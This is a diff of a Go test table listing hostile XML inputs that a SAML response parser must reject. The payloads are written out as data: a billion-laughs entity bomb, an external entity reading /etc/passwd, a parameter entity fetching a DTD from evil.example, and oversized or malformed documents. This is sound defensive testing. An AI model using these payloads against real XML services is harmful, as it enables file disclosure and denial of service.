@@ -16,45 +16,39 @@ import (
 const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]>`
 
 // hostileDocuments are those of SAM20, and others that parsers read differently.
-func hostileDocuments(good string) map[string]struct {
-	document string
-	why      reason
-} {
-	type row = struct {
-		document string
-		why      reason
-	}
+func hostileDocuments(good string) map[string]hostile {
 	open := strings.Index(good, ">") + 1
 	inside := func(s string) string { return good[:open] + s + good[open:] }
-	return map[string]row{
-		"SAM20 document type":         {`<!DOCTYPE x>` + good, reasonMalformed},
-		"SAM20 billion laughs":        {laughs + strings.Replace(good, "mara-7", "&lol2;", 1), reasonMalformed},
-		"SAM20 external entity":       {`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + strings.Replace(good, "mara-7", "&e;", 1), reasonMalformed},
-		"SAM20 parameter entity":      {`<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>` + good, reasonMalformed},
-		"SAM20 entity of nowhere":     {strings.Replace(good, "mara-7", "&admin;", 1), reasonMalformed},
-		"SAM20 depth 10 000":          {inside(strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000)), reasonSize},
-		"SAM20 20 000 attributes":     {inside("<a" + manyAttributes(20000) + "/>"), reasonSize},
-		"SAM20 many elements":         {inside(strings.Repeat("<a/>", 20000)), reasonSize},
-		"SAM20 too long":              {inside(strings.Repeat(" ", core.MaxReturnBytes)), reasonSize},
-		"SM05 comment":                {inside("<!-- x -->"), reasonMalformed},
-		"instruction":                 {inside("<?php x ?>"), reasonMalformed},
-		"SM04 another encoding":       {`<?xml version="1.0" encoding="ISO-8859-1"?>` + good, reasonMalformed},
-		"SM04 declaration inside":     {inside(`<?xml version="1.0"?>`), reasonMalformed},
-		"SM04 not UTF-8":              {strings.Replace(good, "mara-7", "ma\xffra", 1), reasonMalformed},
-		"SM04 NUL":                    {strings.Replace(good, "mara-7", "mara\x00", 1), reasonMalformed},
-		"SM04 colon in a name":        {inside("<a:b:c/>"), reasonMalformed},
-		"SM04 empty prefix":           {inside("<:a/>"), reasonMalformed},
-		"SM04 attribute twice":        {inside(`<a b="1" b="2"/>`), reasonMalformed},
-		"SM04 unclosed":               {good[:len(good)-5], reasonMalformed},
-		"SM04 crossed":                {inside("<a><b></a></b>"), reasonMalformed},
-		"SM04 two roots":              {good + good, reasonWrapped},
-		"SM04 text behind the root":   {good + "x", reasonMalformed},
-		"nothing in it":               {"<x/>", reasonMalformed},
-		"only blanks":                 {"   ", reasonMalformed},
-		"a request for an answer":     {`<samlp:AuthnRequest xmlns:samlp="` + nsProtocol + `"/>`, reasonMalformed},
-		"an answer of no namespace":   {`<Response Version="2.0"/>`, reasonMalformed},
-		"an assertion for an answer":  {`<saml:Assertion xmlns:saml="` + nsAssertion + `" ID="a1"/>`, reasonMalformed},
-		"SM04 prefix of no namespace": {`<samlp:Response Version="2.0"/>`, reasonMalformed},
+	return map[string]hostile{
+		"SAM20 document type":             {`<!DOCTYPE x>` + good, reasonMalformed},
+		"SAM20 billion laughs":            {laughs + strings.Replace(good, "mara-7", "&lol2;", 1), reasonMalformed},
+		"SAM20 external entity":           {`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + strings.Replace(good, "mara-7", "&e;", 1), reasonMalformed},
+		"SAM20 parameter entity":          {`<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>` + good, reasonMalformed},
+		"SAM20 entity of nowhere":         {strings.Replace(good, "mara-7", "&admin;", 1), reasonMalformed},
+		"SAM20 depth 10 000":              {inside(strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000)), reasonSize},
+		"SAM20 20 000 attributes":         {inside("<a" + manyAttributes(20000) + "/>"), reasonSize},
+		"SAM20 many elements":             {inside(strings.Repeat("<a/>", 20000)), reasonSize},
+		"SAM20 5 MB":                      {inside(strings.Repeat(" ", 5<<20)), reasonSize},
+		"SAM20 one byte too long":         {inside(strings.Repeat(" ", core.MaxReturnBytes+1-len(good))), reasonSize},
+		"SM05 comment":                    {inside("<!-- x -->"), reasonMalformed},
+		"SM05 instruction":                {inside("<?php x ?>"), reasonMalformed},
+		"SM04 another encoding":           {`<?xml version="1.0" encoding="ISO-8859-1"?>` + good, reasonMalformed},
+		"SM04 declaration inside":         {inside(`<?xml version="1.0"?>`), reasonMalformed},
+		"SM04 not UTF-8":                  {strings.Replace(good, "mara-7", "ma\xffra", 1), reasonMalformed},
+		"SM04 NUL":                        {strings.Replace(good, "mara-7", "mara\x00", 1), reasonMalformed},
+		"SAM11 colon in a name":           {inside("<a:b:c/>"), reasonMalformed},
+		"SAM11 empty prefix":              {inside("<:a/>"), reasonMalformed},
+		"SAM11 attribute twice":           {inside(`<a b="1" b="2"/>`), reasonMalformed},
+		"SM04 unclosed":                   {good[:len(good)-5], reasonMalformed},
+		"SM04 crossed":                    {inside("<a><b></a></b>"), reasonMalformed},
+		"SM04 two roots":                  {good + good, reasonWrapped},
+		"SM04 text behind the root":       {good + "x", reasonMalformed},
+		"SM04 nothing in it":              {"<x/>", reasonMalformed},
+		"SM04 only blanks":                {"   ", reasonMalformed},
+		"SM04 a request for an answer":    {`<samlp:AuthnRequest xmlns:samlp="` + nsProtocol + `"/>`, reasonMalformed},
+		"SM04 an answer of no namespace":  {`<Response Version="2.0"/>`, reasonMalformed},
+		"SM04 an assertion for an answer": {`<saml:Assertion xmlns:saml="` + nsAssertion + `" ID="a1"/>`, reasonMalformed},
+		"SM04 prefix of no namespace":     {`<samlp:Response Version="2.0"/>`, reasonMalformed},
 	}
 }
 
